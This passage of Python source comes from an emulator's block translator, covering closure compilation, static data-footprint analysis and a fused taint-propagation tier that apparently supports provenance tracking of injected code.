                return self.execute(budget)
            finally:
                retired = cpu.instret - before
                stats.instructions += retired
                stats.fast_retirements += retired
        slow0 = stats.slow_retirements
        start_pc = self.start_pc
        retired = 0
        try:
            i = 0
            if (
                self.pure
                and budget >= n
                and bank.tainted == 0
                and not bank.flags
                and ctx.tid not in ctx.pending
            ):
                # Armed-but-clean shortcut: a pure block touches no data
                # memory and its fetch bytes are clean, so with a clean
                # bank and no pending control window every per-insn gate
                # below would pass and no propagation could change that
                # mid-block.  Run the *plain* closures instead.
                for fn in self.body:
                    fn()
                i = n
            else:
                taint_body = self.taint_body
                limit = n if budget >= n else budget
                code_version = self._code_version
                page = self.phys_page
                version = self.version
                try:
                    while i < limit:
                        r = taint_body[i](ctx)
                        i += 1
                        if r:
                            if code_version(page) != version:
                                retired = i
                                cpu.pc = (start_pc + i * INSTRUCTION_SIZE) & MASK32
                                cpu.instret += i
                                return "smc"
                            if r == 2:
                                retired = i
                                cpu.pc = (start_pc + i * INSTRUCTION_SIZE) & MASK32
                                cpu.instret += i
                                return "dirty"
                except GuestFault:
                    # Precise fault: the faulting instruction did not
                    # retire and made no taint mutations (every fused
                    # closure does its architectural work first).
                    retired = i
                    cpu.pc = (start_pc + i * INSTRUCTION_SIZE) & MASK32
                    cpu.instret += i
                    raise
                except Exception:
                    # Anything else out of a slow arm -- a taint-budget
                    # trip, tag-space exhaustion, a listener error --
                    # happens *after* the architectural work, and the
                    # interpreter counts such instructions as retired
                    # (``on_insn_exec`` accounts first, then works).
                    i += 1
                    retired = i
                    cpu.pc = (start_pc + i * INSTRUCTION_SIZE) & MASK32
                    cpu.instret += i
                    raise
            kind = self.kind
            if i == n and budget > n and kind != "fall":
                if kind == "jump":
                    cpu.pc = self.term()
                else:
                    cpu.pc = (start_pc + (n + 1) * INSTRUCTION_SIZE) & MASK32
                    if kind == "halt":
                        cpu.halted = True
                cpu.instret += n + 1
                retired = n + 1
                # May raise a taint-budget trip: post-instruction state
                # is already in place, exactly as the interpreter leaves
                # it after the terminator retires.
                self.taint_term(ctx)
                return kind
            cpu.pc = (start_pc + i * INSTRUCTION_SIZE) & MASK32
            cpu.instret += i
            retired = i
            return "fall"
        finally:
            self.exec_count += 1
            self.retired += retired
            stats.instructions += retired
            stats.fast_retirements += retired - (stats.slow_retirements - slow0)

    # -- data-side write-set summary ---------------------------------------------

    def _analyze_data(self) -> None:
        """Static address-influence analysis (once per block).

        Forward dataflow over the straight-line body tracking, for each
        register, the set of *entry* registers its current value derives
        from -- or ``None`` once a loaded value flows in.  Every memory
        access's base register contributes its dependency set to
        ``data_influence``; an access whose base depends on a loaded
        value makes the block ``data_cacheable = False`` (its footprint
        cannot be predicted from entry state), and the per-closure
        probes keep handling it.  Terminators never touch data memory,
        so only ``insns`` is walked.
        """
        self.data_analyzed = True
        if self.insns is None:
            return
        deps: List[Optional[frozenset]] = [
            frozenset((r,)) for r in range(NUM_REGS)
        ]
        influence: set = set()
        for insn in self.insns:
            op = insn.op
            rd = int(insn.rd)
            rs1 = int(insn.rs1)
            if op in (Op.LD, Op.LDB, Op.POP):
                base = deps[_SP] if op is Op.POP else deps[rs1]
                if base is None:
                    return
                influence |= base
                # The loaded value is dynamic; the POP side effect
                # (SP += 4) still derives from the old SP.  Assignment
                # order mirrors the closure: ``rd`` first, then SP, so
                # a POP into SP ends up with the incremented value.
                deps[rd] = None
                if op is Op.POP:
                    deps[_SP] = base
            elif op in (Op.ST, Op.STB, Op.PUSH):
                base = deps[_SP] if op is Op.PUSH else deps[rs1]
                if base is None:
                    return
                influence |= base
            elif op is Op.MOV:
                deps[rd] = deps[rs1]
            elif op is Op.MOVI:
                deps[rd] = frozenset()
            elif op in REG_ALU_OPS:
                a, b = deps[rs1], deps[int(insn.rs2)]
                deps[rd] = None if a is None or b is None else a | b
            elif op in IMM_ALU_OPS:
                deps[rd] = deps[rs1]
            # NOP / CMP / CMPI write no register.
        self.data_cacheable = True
        self.data_influence = tuple(sorted(influence))

    def _eval_data_footprint(self) -> Optional[frozenset]:
        """Concretely predict the shadow pages this block's data accesses
        touch, from the *current* register file.

        A miniature forward evaluator mirroring the arithmetic of
        :func:`_compile_straight` exactly; loaded values are irrelevant
        by the :meth:`_analyze_data` contract (no access address depends
        on one), so loads write 0.  Every access is translated with the
        same access kind and page-split rule as its closure, and the
        shadow pages of its physical bytes are collected.  Returns
        ``None`` when a translation faults -- the block would fault
        mid-execution, so the caller must fall back to the per-closure
        path, which raises at the precise instruction.
        """
        cpu = self.cpu
        translate = cpu.mmu.translate
        v = list(cpu.regs._values)
        READ = AccessKind.READ
        WRITE = AccessKind.WRITE
        shift = SHADOW_PAGE_SHIFT
        pages = set()

        def touch(vaddr: int, size: int, kind) -> None:
            if (vaddr & _PAGE_MASK) <= PAGE_SIZE - size:
                base = translate(vaddr, kind)
                pages.add(base >> shift)
                pages.add((base + size - 1) >> shift)
            else:
                # Page-crossing access: byte-wise, like the slow path.
                for k in range(size):
                    pages.add(translate((vaddr + k) & MASK32, kind) >> shift)

        try:
            for insn in self.insns:
                op = insn.op
                rd = int(insn.rd)
                rs1 = int(insn.rs1)
                if op is Op.LD:
                    touch((v[rs1] + signed32(insn.imm)) & MASK32, 4, READ)
                    v[rd] = 0
                elif op is Op.LDB:
                    touch((v[rs1] + signed32(insn.imm)) & MASK32, 1, READ)
                    v[rd] = 0
                elif op is Op.ST:
                    touch((v[rs1] + signed32(insn.imm)) & MASK32, 4, WRITE)
                elif op is Op.STB:
                    touch((v[rs1] + signed32(insn.imm)) & MASK32, 1, WRITE)
                elif op is Op.PUSH:
                    sp = (v[_SP] - 4) & MASK32
                    touch(sp, 4, WRITE)
                    v[_SP] = sp
                elif op is Op.POP:
                    sp = v[_SP]
                    touch(sp, 4, READ)
                    v[rd] = 0
                    v[_SP] = (sp + 4) & MASK32
                elif op is Op.MOV:
                    v[rd] = v[rs1]
                elif op is Op.MOVI:
                    v[rd] = insn.imm & MASK32
                elif op is Op.ADD:
                    v[rd] = (v[rs1] + v[int(insn.rs2)]) & MASK32
                elif op is Op.SUB:
                    v[rd] = (v[rs1] - v[int(insn.rs2)]) & MASK32
                elif op is Op.MUL:
                    v[rd] = (v[rs1] * v[int(insn.rs2)]) & MASK32
                elif op is Op.AND:
                    v[rd] = v[rs1] & v[int(insn.rs2)]
                elif op is Op.OR:
                    v[rd] = v[rs1] | v[int(insn.rs2)]
                elif op is Op.XOR:
                    v[rd] = v[rs1] ^ v[int(insn.rs2)]
                elif op is Op.SHL:
                    v[rd] = (v[rs1] << (v[int(insn.rs2)] & 31)) & MASK32
                elif op is Op.SHR:
                    v[rd] = v[rs1] >> (v[int(insn.rs2)] & 31)
                elif op is Op.ADDI:
                    v[rd] = (v[rs1] + (insn.imm & MASK32)) & MASK32
                elif op is Op.SUBI:
                    v[rd] = (v[rs1] - (insn.imm & MASK32)) & MASK32
                elif op is Op.MULI:
                    v[rd] = (v[rs1] * (insn.imm & MASK32)) & MASK32
                elif op is Op.ANDI:
                    v[rd] = v[rs1] & (insn.imm & MASK32)
                elif op is Op.ORI:
                    v[rd] = v[rs1] | (insn.imm & MASK32)
                elif op is Op.XORI:
                    v[rd] = v[rs1] ^ (insn.imm & MASK32)
                elif op is Op.SHLI:
                    v[rd] = (v[rs1] << (insn.imm & 31)) & MASK32
                elif op is Op.SHRI:
                    v[rd] = v[rs1] >> (insn.imm & 31)
                elif op is Op.NOT:
                    v[rd] = (~v[rs1]) & MASK32
                # NOP / CMP / CMPI move no register values.
        except GuestFault:
            return None
        return frozenset(pages)


def _mem(fn: Callable) -> Callable:
    """Tag a closure as performing a data-memory access."""
    fn.is_mem = True
    return fn


def _compile_straight(insn: Instruction, cpu: CPU) -> Callable[[], Optional[bool]]:
    """Compile one non-terminating instruction into a closure.

    Registers, immediates, and the MMU/memory entry points are bound
    now; executing the closure performs only the instruction's work.
    Store closures return ``True`` (see :meth:`TranslatedBlock.execute`);
    everything else returns ``None``.
    """
    op = insn.op
    v = cpu.regs._values
    rd = int(insn.rd)
    rs1 = int(insn.rs1)
    rs2 = int(insn.rs2)
    imm = insn.imm & MASK32

    if op is Op.NOP:
        def nop() -> None:
            return None
        return nop
    if op is Op.MOV:
        def mov() -> None:
            v[rd] = v[rs1]
        return mov
    if op is Op.MOVI:
        def movi() -> None:
            v[rd] = imm
        return movi

    if op in (Op.LD, Op.LDB, Op.ST, Op.STB, Op.PUSH, Op.POP):
        disp = signed32(insn.imm)
        translate = cpu.mmu.translate
        memory = cpu.memory
        read_word = memory.read_word
        read_byte = memory.read_byte
        write_word = memory.write_word
        write_byte = memory.write_byte
        load_slow = cpu._load
        store_slow = cpu._store
        READ = AccessKind.READ
        WRITE = AccessKind.WRITE

        if op is Op.LD:
            @_mem
            def ld() -> None:
                vaddr = (v[rs1] + disp) & MASK32
                if (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    v[rd] = read_word(translate(vaddr, READ))
                else:
                    v[rd] = load_slow(vaddr, 4)[0]
            return ld
        if op is Op.LDB:
            @_mem
            def ldb() -> None:
                v[rd] = read_byte(translate((v[rs1] + disp) & MASK32, READ))
            return ldb
        if op is Op.ST:
            @_mem
            def st() -> bool:
                vaddr = (v[rs1] + disp) & MASK32
                if (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    write_word(translate(vaddr, WRITE), v[rs2])
                else:
                    store_slow(vaddr, 4, v[rs2])
                return True
            return st
        if op is Op.STB:
            @_mem
            def stb() -> bool:
                write_byte(translate((v[rs1] + disp) & MASK32, WRITE), v[rs2] & 0xFF)
                return True
            return stb
        if op is Op.PUSH:
            @_mem
            def push() -> bool:
                sp = (v[_SP] - 4) & MASK32
                if (sp & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    write_word(translate(sp, WRITE), v[rs1])
                else:
                    store_slow(sp, 4, v[rs1])
                v[_SP] = sp
                return True
            return push
        # POP
        @_mem
        def pop() -> None:
            sp = v[_SP]
            if (sp & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                v[rd] = read_word(translate(sp, READ))
            else:
                v[rd] = load_slow(sp, 4)[0]
            v[_SP] = (sp + 4) & MASK32
        return pop

    # Register-file values are invariantly masked to 32 bits (every write
    # below re-masks where the operation can overflow), so AND/OR/XOR/SHR
    # results need no extra masking.
    if op is Op.ADD:
        def add() -> None:
            v[rd] = (v[rs1] + v[rs2]) & MASK32
        return add
    if op is Op.SUB:
        def sub() -> None:
            v[rd] = (v[rs1] - v[rs2]) & MASK32
        return sub
    if op is Op.MUL:
        def mul() -> None:
            v[rd] = (v[rs1] * v[rs2]) & MASK32
        return mul
    if op is Op.AND:
        def and_() -> None:
            v[rd] = v[rs1] & v[rs2]
        return and_
    if op is Op.OR:
        def or_() -> None:
            v[rd] = v[rs1] | v[rs2]
        return or_
    if op is Op.XOR:
        def xor() -> None:
            v[rd] = v[rs1] ^ v[rs2]
        return xor
    if op is Op.SHL:
        def shl() -> None:
            v[rd] = (v[rs1] << (v[rs2] & 31)) & MASK32
        return shl
    if op is Op.SHR:
        def shr() -> None:
            v[rd] = v[rs1] >> (v[rs2] & 31)
        return shr

    if op is Op.ADDI:
        def addi() -> None:
            v[rd] = (v[rs1] + imm) & MASK32
        return addi
    if op is Op.SUBI:
        def subi() -> None:
            v[rd] = (v[rs1] - imm) & MASK32
        return subi
    if op is Op.MULI:
        def muli() -> None:
            v[rd] = (v[rs1] * imm) & MASK32
        return muli
    if op is Op.ANDI:
        def andi() -> None:
            v[rd] = v[rs1] & imm
        return andi
    if op is Op.ORI:
        def ori() -> None:
            v[rd] = v[rs1] | imm
        return ori
    if op is Op.XORI:
        def xori() -> None:
            v[rd] = v[rs1] ^ imm
        return xori
    if op is Op.SHLI:
        shift = imm & 31

        def shli() -> None:
            v[rd] = (v[rs1] << shift) & MASK32
        return shli
    if op is Op.SHRI:
        shift = imm & 31

        def shri() -> None:
            v[rd] = v[rs1] >> shift
        return shri
    if op is Op.NOT:
        def not_() -> None:
            v[rd] = (~v[rs1]) & MASK32
        return not_

    if op is Op.CMP:
        def cmp_() -> None:
            a = v[rs1]
            b = v[rs2]
            cpu.flag_z = a == b
            cpu.flag_n = (a - _WRAP if a & _SIGN_BIT else a) < (
                b - _WRAP if b & _SIGN_BIT else b
            )
        return cmp_
    if op is Op.CMPI:
        sb = signed32(insn.imm)

        def cmpi() -> None:
            a = v[rs1]
            cpu.flag_z = a == imm
            cpu.flag_n = (a - _WRAP if a & _SIGN_BIT else a) < sb
        return cmpi

    raise AssertionError(f"not a straight-line op: {op!r}")  # pragma: no cover


def _compile_term(insn: Instruction, cpu: CPU, fall_pc: int) -> Callable[[], int]:
    """Compile a control-transfer terminator into a next-pc closure."""
    op = insn.op
    v = cpu.regs._values
    rs1 = int(insn.rs1)
    target = insn.imm & MASK32

    if op is Op.JMP:
        return lambda: target
    if op is Op.JZ:
        return lambda: target if cpu.flag_z else fall_pc
    if op is Op.JNZ:
        return lambda: fall_pc if cpu.flag_z else target
    if op is Op.JLT:
        return lambda: target if cpu.flag_n else fall_pc
    if op is Op.JGE:
        return lambda: fall_pc if cpu.flag_n else target
    if op is Op.JLE:
        return lambda: target if (cpu.flag_z or cpu.flag_n) else fall_pc
    if op is Op.JGT:
        return lambda: fall_pc if (cpu.flag_z or cpu.flag_n) else target
    if op is Op.CALL:
        def call() -> int:
            v[_LR] = fall_pc
            return target
        return call
    if op is Op.CALLR:
        def callr() -> int:
            v[_LR] = fall_pc
            return v[rs1]
        return callr
    if op is Op.JMPR:
        return lambda: v[rs1]
    if op is Op.RET:
        return lambda: v[_LR]
    raise AssertionError(f"not a terminator op: {op!r}")  # pragma: no cover


# ---------------------------------------------------------------------------
# the translated-tainted tier: fused Table I closures
# ---------------------------------------------------------------------------
#
# Every fused closure must reproduce TaintTracker.on_insn_exec *exactly*
# for its instruction shape -- same shadow/bank mutations, same interner
# call sequence, same stats splits, same listener observations
# (tests/taint/test_differential.py compares all four bit-for-bit).  The
# closures exploit one invariant the interpreter cannot: the dispatcher
# only runs a block whose fetch *range* is byte-precisely clean, so the
# per-insn fetch scan (interpreter step 1) is provably a no-op -- zero
# provenance collected, zero interner calls -- and ``insn_prov`` is
# always EMPTY.  (The surrounding 4 KiB shadow page may be dirty; only
# the block's own bytes matter, and a store breaking the invariant exits
# via the smc/dirty protocol before the next closure runs.)
# Closures do their architectural work *first*, so a guest fault leaves
# both machine and taint state exactly pre-instruction.


def _taint_epilogue(ctx) -> None:
    """Interpreter steps 5-6: control-window decrement, budget check.

    (Window *arming* only happens on flags-reading terminators and is
    compiled into :func:`_compile_taint_term`.)
    """
    pending = ctx.pending.get(ctx.tid)
    if pending is not None:
        pending[1] -= 1
        if pending[1] <= 0:
            del ctx.pending[ctx.tid]
    if ctx.budget_check is not None:
        ctx.budget_check()


def _set_with_control(ctx, bank, rd: int, prov) -> None:
    """``TaintTracker._write_reg``: union in the pending control window."""
    if ctx.track_control_deps:
        pending = ctx.pending.get(ctx.tid)
        if pending is not None:
            prov = ctx.union(prov, pending[0])
    bank.set(rd, prov)


def _compile_reg_propagation(insn: Instruction) -> Optional[Callable]:
    """The Table I rule for a register-only instruction, or None.

    Mirrors ``TaintTracker._propagate`` over the same opcode families;
    opcodes Table I ignores (NOP, and anything outside the families)
    compile to None -- the slow path still runs its bookkeeping, it just
    moves no provenance.
    """
    op = insn.op
    rd = int(insn.rd)
    rs1 = int(insn.rs1)
    rs2 = int(insn.rs2)
    if op is Op.MOV:
        def p_mov(ctx, bank) -> None:
            _set_with_control(ctx, bank, rd, bank.regs[rs1])
        return p_mov
    if op is Op.MOVI:
        def p_movi(ctx, bank) -> None:
            _set_with_control(ctx, bank, rd, _EMPTY_PROV)
        return p_movi
    if op in REG_ALU_OPS:
        if rs1 == rs2 and op in (Op.XOR, Op.SUB):
            # Architectural zeroing idiom (Table I delete).
            def p_zero(ctx, bank) -> None:
                _set_with_control(ctx, bank, rd, _EMPTY_PROV)
            return p_zero

        def p_alu(ctx, bank) -> None:
            _set_with_control(
                ctx, bank, rd, ctx.union(bank.regs[rs1], bank.regs[rs2])
            )
        return p_alu
    if op in IMM_ALU_OPS:
        def p_imm(ctx, bank) -> None:
            _set_with_control(ctx, bank, rd, bank.regs[rs1])
        return p_imm
    if op is Op.CMP:
        def p_cmp(ctx, bank) -> None:
            bank.flags = ctx.union(bank.regs[rs1], bank.regs[rs2])
        return p_cmp
    if op is Op.CMPI:
        def p_cmpi(ctx, bank) -> None:
            bank.flags = bank.regs[rs1]
        return p_cmpi
    return None


def _compile_taint(
    insn: Instruction,
    cpu: CPU,
    insn_pc: int,
    insn_paddr: int,
    fetch_start: int = -1,
    fetch_end: int = -1,
) -> Callable:
    """Compile one non-terminating instruction into a fused taint closure.

    The closure takes the slice's
    :class:`~repro.taint.tracker.BlockTaintContext` and returns the
    store protocol code: falsy to continue, ``1`` for a retired store
    (executor re-checks the code version), ``2`` for a retired store
    that wrote taint into the block's own fetch range
    ``[fetch_start, fetch_end)`` (executor exits with reason
    ``"dirty"``).  Taint landing elsewhere on the fetch *shadow page* no
    longer exits: the block's own bytes are still clean, so fused
    execution may continue.
    """
    op = insn.op
    v = cpu.regs._values
    rd = int(insn.rd)
    rs1 = int(insn.rs1)
    shift = SHADOW_PAGE_SHIFT
    EMPTY = _EMPTY_PROV

    if op in (Op.LD, Op.LDB, Op.POP):
        disp = signed32(insn.imm)
        translate = cpu.mmu.translate
        memory = cpu.memory
        read_word = memory.read_word
        read_byte = memory.read_byte
        load_slow = cpu._load
        READ = AccessKind.READ
        pop = op is Op.POP
        byte = op is Op.LDB
        rd_reg = insn.rd
        regs_read = (Reg.SP,) if pop else (insn.rs1,)
        fetch_paddrs = tuple(range(insn_paddr, insn_paddr + INSTRUCTION_SIZE))
        next_pc = (insn_pc + INSTRUCTION_SIZE) & MASK32
        LoadObservation = _LoadObservation

        @_mem
        def load(ctx) -> None:
            # Architectural work first: a faulting translation must
            # leave taint state untouched, like the interpreter.
            vaddr = v[_SP] if pop else (v[rs1] + disp) & MASK32
            if byte:
                base = translate(vaddr, READ)
                value = read_byte(base)
                paddrs = (base,)
            elif (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                base = translate(vaddr, READ)
                value = read_word(base)
                paddrs = (base, base + 1, base + 2, base + 3)
            else:
                value, paddrs = load_slow(vaddr, 4)
            v[rd] = value
            if pop:
                v[_SP] = (vaddr + 4) & MASK32
            # The all-clean gate (fetch bytes are clean by block invariant).
            bank = ctx.bank
            if bank.tainted == 0 and not bank.flags and ctx.tid not in ctx.pending:
                dirty = ctx.dirty_pages
                if not dirty:
                    return
                p0 = paddrs[0] >> shift
                if p0 not in dirty:
                    p1 = paddrs[-1] >> shift
                    if p1 == p0 or p1 not in dirty:
                        return
            # Slow path: interpreter steps 0-4 for a load shape.
            stats = ctx.stats
            stats.slow_retirements += 1
            proc_tag = ctx.get_proc_tag()
            shadow = ctx.shadow
            prov = shadow.get_bytes(paddrs)
            if prov and proc_tag is not None:
                append = ctx.append
                set_byte = shadow.set
                get_byte = shadow.get
                for paddr in paddrs:
                    byte_prov = get_byte(paddr)
                    if byte_prov:
                        new = append(byte_prov, proc_tag)
                        if new is not byte_prov:
                            set_byte(paddr, new)
                            stats.process_tag_appends += 1
                prov = append(prov, proc_tag)
            if ctx.listeners:
                access = MemoryAccess(vaddr, tuple(paddrs), value)
                observation = LoadObservation(
                    thread=ctx.thread,
                    fx=InstructionEffects(
                        pc=insn_pc,
                        insn=insn,
                        next_pc=next_pc,
                        fetch_paddrs=fetch_paddrs,
                        reads=[access],
                        reg_written=rd_reg,
                        regs_read=regs_read,
                    ),
                    insn_prov=EMPTY,
                    reads=[(access, prov)],
                )
                for listener in ctx.listeners:
                    listener(ctx.machine, observation)
            if ctx.track_address_deps and not pop:
                prov = ctx.union(prov, bank.regs[rs1])
            _set_with_control(ctx, bank, rd, prov)
            _taint_epilogue(ctx)
        return load

    if op in (Op.ST, Op.STB, Op.PUSH):
        disp = signed32(insn.imm)
        translate = cpu.mmu.translate
        memory = cpu.memory
        write_word = memory.write_word
        write_byte = memory.write_byte
        store_slow = cpu._store
        WRITE = AccessKind.WRITE
        push = op is Op.PUSH
        byte = op is Op.STB
        src = rs1 if push else int(insn.rs2)

        @_mem
        def store(ctx) -> int:
            if push:
                vaddr = (v[_SP] - 4) & MASK32
            else:
                vaddr = (v[rs1] + disp) & MASK32
            if byte:
                base = translate(vaddr, WRITE)
                write_byte(base, v[src] & 0xFF)
                paddrs = (base,)
            elif (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                base = translate(vaddr, WRITE)
                write_word(base, v[src])
                paddrs = (base, base + 1, base + 2, base + 3)
            else:
                paddrs = store_slow(vaddr, 4, v[src])
            if push:
                v[_SP] = vaddr
            bank = ctx.bank
            if bank.tainted == 0 and not bank.flags and ctx.tid not in ctx.pending:
                dirty = ctx.dirty_pages
                if not dirty:
                    return 1
                p0 = paddrs[0] >> shift
                if p0 not in dirty:
                    p1 = paddrs[-1] >> shift
                    if p1 == p0 or p1 not in dirty:
                        return 1
            stats = ctx.stats
            stats.slow_retirements += 1
            proc_tag = ctx.get_proc_tag()
            prov = bank.regs[src]
            if ctx.track_address_deps and not push:
                prov = ctx.union(prov, bank.regs[rs1])
            if ctx.track_control_deps:
                pending = ctx.pending.get(ctx.tid)
                if pending is not None:
                    prov = ctx.union(prov, pending[0])
            if prov and proc_tag is not None:
                prov = ctx.append(prov, proc_tag)
            ctx.shadow.set_bytes(paddrs, prov)
            _taint_epilogue(ctx)
            if prov:
                # Byte-precise invariant check: only a *tainting* write
                # into the block's own fetch range breaks it (and such a
                # write also bumps the code page's version, so the SMC
                # check usually claims the exit first).
                for paddr in paddrs:
                    if fetch_start <= paddr < fetch_end:
                        return 2
            return 1
        return store

    # Register-only shapes: reuse the plain closure for the architectural
    # work and fuse just the propagation rule around the all-clean gate.
    arch = _compile_straight(insn, cpu)
    propagate = _compile_reg_propagation(insn)

    def fused(ctx) -> None:
        arch()
        bank = ctx.bank
        if bank.tainted == 0 and not bank.flags and ctx.tid not in ctx.pending:
            return
        ctx.stats.slow_retirements += 1
        ctx.get_proc_tag()
        if propagate is not None:
            propagate(ctx, bank)
        _taint_epilogue(ctx)
    return fused


def _compile_taint_term(insn: Optional[Instruction]) -> Callable:
    """The fused taint closure for a block terminator.

    Terminators never touch data memory, so their slow path is bank
    bookkeeping only: the CALL link-register rule, the control-window
    decrement, and -- for flags-reading branches under the
    control-dependency policy -- arming a fresh window.  *insn* is None
    for ``"fall"`` blocks (never invoked) and for blocks whose
    terminator the plain tier synthesised (syscall/halt are real
    instructions and always present).
    """
    op = insn.op if insn is not None else None
    flags_read = op in COND_BRANCH_OPS if op is not None else False
    link = op in (Op.CALL, Op.CALLR)
    EMPTY = _EMPTY_PROV

    def term_taint(ctx) -> None:
        bank = ctx.bank
        if bank.tainted == 0 and not bank.flags and ctx.tid not in ctx.pending:
            return
        ctx.stats.slow_retirements += 1
        ctx.get_proc_tag()
        if link:
            bank.set(_LR, EMPTY)
        pending = ctx.pending.get(ctx.tid)
        if pending is not None:
            pending[1] -= 1
            if pending[1] <= 0:
                del ctx.pending[ctx.tid]
        if flags_read and ctx.track_control_deps and bank.flags:
            ctx.pending[ctx.tid] = [bank.flags, ctx.control_dep_window]
        if ctx.budget_check is not None:
            ctx.budget_check()
    return term_taint


class BlockTranslator:
    """Translates, caches, and dispatches basic blocks for one machine.

    The cache is a two-level map: address space (weakly referenced, so
    exited processes drop their blocks) -> physical page ->
    ``(code_version, {start_pc: block})``.  A version mismatch at lookup
    discards the whole page entry -- any write into the page may have
    rewritten any instruction in it.
    """

    def __init__(self, memory: PhysicalMemory) -> None:
        self._memory = memory
        self._caches: "weakref.WeakKeyDictionary" = weakref.WeakKeyDictionary()
        self.translations = 0
        self.executions = 0
        self.invalidations = 0
        self.chain_hits = 0
        self.lookups = 0
        self.single_steps = 0
        # Translated-tainted tier counters (the "obs" gauges for the new
        # dispatch tier; see Machine._bind_metrics).
        self.taint_lookups = 0
        self.taint_executions = 0
        self.taint_single_steps = 0
        self.taint_dirty_exits = 0
        # Byte-precise fetch-range probes (dirty fetch shadow pages only):
        # how often the epoch cache answered, and how often a dirty page
        # still let the block run fused because its own bytes were clean.
        self.taint_range_checks = 0
        self.taint_range_cache_hits = 0
        self.taint_dirty_page_runs = 0
        # Data-side write-set summaries (the per-block footprint cache):
        # gate attempts on a dirty shadow, signature/epoch cache hits,
        # and whole-block delegations to the plain closures.
        self.taint_footprint_checks = 0
        self.taint_footprint_cache_hits = 0
        self.taint_footprint_delegations = 0

    # -- cache management --------------------------------------------------------

    def lookup(self, cpu: CPU) -> Optional[TranslatedBlock]:
        """Return a valid block starting at ``cpu.pc``, translating on miss.

        Returns ``None`` when the pc sits so close to the page end that
        the instruction itself spans pages -- the caller single-steps.
        Propagates :class:`PageFault`/:class:`InvalidInstruction` for a
        non-executable pc or undecodable first instruction, with zero
        instructions retired (the precise-fault contract).
        """
        pc = cpu.pc
        paddr = cpu.mmu.translate(pc, AccessKind.FETCH)
        if (pc & _PAGE_MASK) > _FETCH_FAST_LIMIT:
            return None
        page = paddr >> PAGE_SHIFT
        memory = self._memory
        memory.watch_code_page(page)
        version = memory.code_version(page)
        per_as = self._caches.get(cpu.mmu)
        if per_as is None:
            per_as = {}
            self._caches[cpu.mmu] = per_as
        entry = per_as.get(page)
        if entry is not None and entry[0] != version:
            self.invalidations += 1
            entry = None
        if entry is None:
            entry = (version, {})
            per_as[page] = entry
        block = entry[1].get(pc)
        if block is None:
            block = self._translate(cpu, pc, paddr, page, version)
            entry[1][pc] = block
            self.translations += 1
        return block

    def _translate(
        self, cpu: CPU, start_pc: int, start_paddr: int, page: int, version: int
    ) -> TranslatedBlock:
        memory = self._memory
        page_base = page << PAGE_SHIFT
        raw = memory.read_bytes(page_base, PAGE_SIZE)
        off = start_paddr - page_base
        pc = start_pc
        body: List[Callable[[], Optional[bool]]] = []
        insns: List[Instruction] = []
        term_insn: Optional[Instruction] = None
        kind = "fall"
        term: Optional[Callable[[], int]] = None
        while off <= _FETCH_FAST_LIMIT:
            try:
                insn = cached_decode(raw[off : off + INSTRUCTION_SIZE])
            except DecodeError as exc:
                if not body:
                    raise InvalidInstruction(pc, str(exc)) from None
                # A later instruction is undecodable: stop the block here;
                # if execution actually falls onto it, the next lookup
                # raises the fault at the precise pc.
                break
            op = insn.op
            if op is Op.SYSCALL:
                kind = "syscall"
                term_insn = insn
                break
            if op is Op.HLT:
                kind = "halt"
                term_insn = insn
                break
            if op in _JUMP_OPS:
                kind = "jump"
                term_insn = insn
                term = _compile_term(insn, cpu, (pc + INSTRUCTION_SIZE) & MASK32)
                break
            body.append(_compile_straight(insn, cpu))
            insns.append(insn)
            off += INSTRUCTION_SIZE
            pc = (pc + INSTRUCTION_SIZE) & MASK32
        return TranslatedBlock(
            cpu, start_pc, start_paddr, version, body, kind, term, insns, term_insn
        )

    # -- execution ---------------------------------------------------------------

    def run(self, cpu: CPU, budget: int) -> str:
        """Execute up to *budget* instructions starting at ``cpu.pc``.

        Chains through directly-reachable blocks until the budget runs
        out or execution hits a syscall, halt, self-modifying store, or
        an instruction that must be single-stepped.  Returns the final
        stop reason (``"syscall"``, ``"halt"``, ``"smc"``, ``"jump"``,
        or ``"fall"``); the retirement count is observable as the change
        in ``cpu.instret``.  Guest faults propagate with precise state.
        """
        self.lookups += 1
        block = self.lookup(cpu)
        if block is None:
            # Cross-page instruction: step_fast handles the split fetch.
            self.single_steps += 1
            fx = cpu.step_fast()
            if fx.syscall:
                return "syscall"
            if fx.halted:
                return "halt"
            return "fall"
        memory = self._memory
        mmu_translate = cpu.mmu.translate
        code_version = memory.code_version
        spent = 0
        while True:
            before = cpu.instret
            reason = block.execute(budget - spent)
            self.executions += 1
            spent += cpu.instret - before
            if spent >= budget or reason == "syscall" or reason == "halt" or reason == "smc":
                return reason
            pc = cpu.pc
            if reason == "jump":
                nxt = block.chain.get(pc)
                if (
                    nxt is not None
                    and nxt.version == code_version(nxt.phys_page)
                    and mmu_translate(pc, AccessKind.FETCH) == nxt.start_paddr
                ):
                    self.chain_hits += 1
                    block = nxt
                    continue
                self.lookups += 1
                nxt = self.lookup(cpu)
                if nxt is None:
                    return "fall"
                if len(block.chain) < _CHAIN_LIMIT:
                    block.chain[pc] = nxt
                block = nxt
                continue
            # reason == "fall" with budget remaining: page-boundary
            # fall-through -- continue at the next page.
            self.lookups += 1
            nxt = self.lookup(cpu)
            if nxt is None:
                return "fall"
            block = nxt

    def run_taint(self, cpu: CPU, budget: int, ctx) -> str:
        """Taint-tier twin of :meth:`run`: block execution with fused
        Table I propagation against *ctx* (a
        :class:`~repro.taint.tracker.BlockTaintContext`).

        The dispatch rule is the **byte-precise fetch-clean invariant**:
        a cached block only executes while its own fetch range carries
        no taint, probed here before every block (entry and chain
        alike).  The probe is two-level: a clean fetch *shadow page*
        (one dict miss) passes outright; a dirty page falls to
        :meth:`_fetch_clean`, which consults the per-block epoch-cached
        byte-precise verdict -- so attack-shaped layouts where code
        shares a 4 KiB shadow page with planted tainted data (export
        tables, staged payloads) keep running fused.  A block whose own
        *bytes* carry taint is exactly the possibly-injected code FAROS
        exists to observe, so those instructions single-step through the
        instrumented interpreter (``cpu.step`` + ``on_insn_exec``),
        whose per-byte fetch scan collects the injected bytes'
        provenance.
        """
        _load_taint_runtime()
        self.taint_lookups += 1
        block = self.lookup(cpu)
        if block is None:
            # Cross-page instruction: the interpreter handles the split
            # fetch (and the tracker its effects).
            return self._taint_steps(cpu, ctx, budget)
        if block.taint_body is None:
            block.ensure_taint()
        memory = self._memory
